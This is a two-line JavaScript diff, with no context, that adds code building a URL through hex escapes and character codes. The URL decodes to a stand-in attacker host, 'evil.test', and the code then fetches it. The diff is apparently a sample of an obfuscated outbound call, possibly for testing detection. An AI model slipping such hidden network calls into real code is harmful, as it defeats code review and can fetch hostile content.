@@ -1,0 +1,2 @@
+var url = ['\x68\x74\x74\x70', ':', '//'].join('') + String.fromCharCode(101, 118) + 'il.test';
+get(url);
